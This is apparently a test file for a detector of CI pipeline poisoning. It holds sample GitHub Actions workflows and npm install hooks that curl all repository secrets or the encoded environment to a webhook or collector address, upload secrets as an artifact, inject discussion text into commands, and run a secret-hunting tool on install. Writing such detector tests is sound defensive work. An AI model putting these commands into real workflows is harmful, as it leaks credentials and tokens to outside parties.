import { scripts, testLures } from '../../../test/support/lures.ts';
import detector from './ci-poisoning.ts';

const job = (run: string): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          ${run}\n`;

testLures(detector, {
  proof: { 'bootstrap of the worm': { 'package.json': scripts({ preinstall: 'node setup_bun.js' }) } },
  strong: {
    'all secrets to an address': {
      '.github/workflows/a.yml': job(
        "curl -d '${{ toJSON(secrets) }}' https://webhook.site/00000000-0000-0000-0000-000000000000",
      ),
    },
    'all secrets as an artifact': {
      '.github/workflows/format.yml':
        "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' > f.json\n      - uses: actions/upload-artifact@v4\n",
    },
    'encoded twice': { '.github/workflows/a.yml': job('echo ${{ secrets.NPM_TOKEN }} | base64 -w0 | base64 -w0') },
    'environment to a collector': {
      '.github/workflows/a.yml': job('curl -X POST -d "$(env | base64)" http://192.0.2.1/c'),
    },
    'commands from discussions': {
      '.github/workflows/discussion.yaml':
        'on:\n  discussion:\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n',
    },
    'hunt for secrets on install': { 'package.json': scripts({ postinstall: 'npx trufflehog filesystem ~ --json' }) },
  },
  silent: {
    'honest workflows': {
      '.github/workflows/ci.yml':
        job('npm publish') + '        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n',
      '.github/workflows/deploy.yml': job(
        'curl -H "Authorization: Bearer ${{ secrets.TOKEN }}" https://api.fixture.example/deploy',
      ),
      '.github/workflows/notify.yml': job('curl -X POST -d \'{"text":"done"}\' ${{ secrets.SLACK_WEBHOOK_URL }}'),
    },
    'honest install': {
      'package.json': scripts({ preinstall: 'node scripts/check-node.js', postinstall: 'bun run build' }),
    },
  },
});
